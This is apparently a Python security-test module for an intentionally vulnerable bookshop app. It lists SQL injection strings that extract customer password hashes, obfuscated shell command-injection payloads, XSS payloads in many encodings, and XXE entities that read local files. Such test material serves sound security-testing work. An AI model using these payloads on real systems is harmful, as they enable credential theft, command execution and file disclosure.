"""What is tried on the bookshop's holes: each text works on the careless shop as it stands.

Written for the shop's own code: `… WHERE title LIKE '%TEXT%' OR author LIKE '%TEXT%' ORDER BY
title` in SQLite, `sh -c 'echo "TEXT" | fold -w 20'`, `<li>TEXT</li>` on a page, and expat with
external entities. `{name}` is replaced for each try.
"""

from __future__ import annotations

import base64
from typing import Final

SQL_STEALS: Final = (
    "x' UNION SELECT id, password_hash, email, name FROM customers--",
    "x' uNiOn aLl sElEcT id, password_hash, email, name fRoM customers-- -",
    "x'/**/UNION/**/SELECT/**/id,password_hash,email,name/**/FROM/**/customers--",
    "x'\nUNION\tSELECT\n1,\tpassword_hash,\n3,4\rFROM\fcustomers--",
    "x'UNION SELECT--\n1,group_concat(password_hash),3,4 FROM customers/*",
    "x' UNION SELECT 1,(SELECT password_hash FROM customers LIMIT 1),3,4--",
    'x\' UNION SELECT "id",[password_hash],`email`,"name" FROM "customers"--',
    "x' UNION SELECT * FROM (SELECT 1,password_hash,3,4 FROM customers)--",
    "x' UNION SELECT * FROM (VALUES(1,(SELECT max(password_hash) FROM customers),3,4))/*",
    "x' UNION SELECT 1e0,password_hash||'',.3,0x4 FROM customers--x",
    "x' AND 0 UNION SELECT DISTINCT c.id,c.password_hash,c.email,c.name FROM customers AS c/*x*/--",
    "Marsh' EXCEPT SELECT 1,2,3,4 UNION SELECT 1,password_hash,3,4 FROM customers--",
    "x' UNION SELECT 1,hex(password_hash)||'/'||password_hash,3,4 FROM customers WHERE''LIKE'%'/*",
)
"""Show every account's password hash, or one."""

SQL_WIDENS: Final = (
    "x' OR 1=1--",
    "x' OR 'a' LIKE 'a",
    "x'||'' OR 1--",
    "x' OR TRUE--",
    "x' oR/**/2>1--",
    "x' OR NOT 0 --",
    "x' OR isbn IN (SELECT isbn FROM books)--",
    "x' OR EXISTS(SELECT 1 FROM customers WHERE is_staff)--",
    "x' OR length(isbn)=13--",
    "x' OR 'x' < 'y",
    "x' OR (SELECT count(*) FROM customers WHERE password_hash GLOB '[0-9a-f]*')>0--",
    "x' OR title BETWEEN 'A' AND 'z'--",
    "x' OR CASE WHEN 1 THEN 1 ELSE 0 END--",
)
"""Find all books, whatever was looked for: the condition is the attacker's."""

SHELL: Final = (
    "$(touch {name})",
    "`touch {name}`",
    '"; touch {name}; "',
    '"|touch {name};"',
    '"&&touch {name}&&"',
    '"\ntouch {name}\n"',
    "$(touch${{IFS}}{name})",
    "$(t'ou'ch {name})",
    '";t\\ouch {name} #',
    '";>{name};"',
    '";/bin/t?uch {name};"',
    "\" ; sh -c 'touch {name}' ; \"",
    "$(printf dG91Y2gg | base64 -d | sed s/$/{name}/ | sh)",
    "\"; python3 -c \"open('{name}','w')\" #",
    "${{x:-$(touch {name})}}",
    '";a=tou;b=ch;$a$b {name};"',
    '" && (touch {name}) ; "',
    '"& cp /etc/hostname {name} & echo "',
)
"""Make a file in the shop's folder."""

SCRIPTS: Final = (
    "<script>{run}</script>",
    "<ScRiPt\n type=text/javascript>{run}</sCrIpT >",
    "<img src=x: onerror={run}>",
    '<IMG SRC="x:" OnErRoR = "{entities}">',
    "<svg/onload={run}>",
    "<svg><script>{entities}</script></svg>",
    '<body onload="{run}">',
    '<iframe srcdoc="&lt;script&gt;{run}&lt;/script&gt;"></iframe>',
    '<iframe src="java&Tab;script:{run}"></iframe>',
    "<details open ontoggle={run}><summary>more</summary></details>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x: onerror={run}></audio>",
    '<style>@keyframes k{{}}</style><p style="animation:k 99s" onanimationstart={run}>',
    '<script>eval(atob("{base64}"))</script>',
    '<img src=x: onerror="eval(&quot;{escapes}&quot;)">',
    "<script src=data:text/javascript;base64,{base64}></script>",
    "<link rel=stylesheet href=x: onerror={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<script>[]['at']['constructor']('{run}')()</script>",
    "A fine book, <b>really</b><img src='x:'onerror='{run}'> and well bound.",
    "--></title></textarea></style><svg onload={run}></svg>",
)
"""Say so in the title of the page that shows the review, without a click."""

XML: Final = (
    '<!DOCTYPE list [<!ENTITY x SYSTEM "file://{path}">]>{list}',
    '<?xml version="1.0"?><!DOCTYPE list [<!ENTITY x SYSTEM "file://{path}">]>{list}',
    '<!DOCTYPE list [<!ENTITY x SYSTEM "{path}">]>{list}',
    '<!DOCTYPE list [<!ENTITY x PUBLIC "-//SHOP//TEXT x//EN" "file://{path}">]>{list}',
    "<!DOCTYPE list [<!ENTITY x SYSTEM 'file://localhost{path}'>]>{list}",
    '<!-- a -->\n<?note well?>\n<!DOCTYPE\n\tlist\n[\n<!ENTITY\tx\nSYSTEM\t"{path}"\n>\n]\n>{list}',
    '<!DOCTYPE list [<!ENTITY x "&y;"><!ENTITY y SYSTEM "file://{path}">]>{list}',
    '<!DOCTYPE list [<!ELEMENT list ANY><!ENTITY x SYSTEM "file://{path}">]>{list}',
    "<!DOCTYPE list [<!ENTITY % p \"<!ENTITY x SYSTEM 'file://{path}'>\">%p;]>{list}",
    '<!DOCTYPE list [<!ENTITY % p "&#60;!ENTITY x SYSTEM &#39;file://{path}&#39;>">%p;]>{list}',
    '<!DOCTYPE list [<!ENTITY x SYSTEM "file://{coded}">]>{list}',
    '<?xml version="1.0" standalone="no"?><!DOCTYPE list [<!ENTITY x SYSTEM "{path}">]>{list}',
)
"""Read a file of the shop's machine, in each of `XML_ENCODINGS`."""

XML_LIST: Final = "<list><book><title>&x;</title></book></list>"
XML_ENCODINGS: Final = ("utf-8", "utf-8-sig", "utf-16", "utf-16-be")


def script(number: int, text: str) -> tuple[str, str]:
    """The review that runs script `number` in this way, and the mark that it leaves."""
    mark = f"[{number}]"
    run = f"top.document.title+=`{mark}`"
    if text.startswith("<iframe"):
        run = f"top.document.title+=`{mark}`,void(0)"
    review = text.format(
        run=run,
        entities="".join(f"&#{ord(letter)};" for letter in run),
        escapes="".join(f"\\u{ord(letter):04x}" for letter in run),
        base64=base64.b64encode(run.encode()).decode(),
    )
    return review, mark
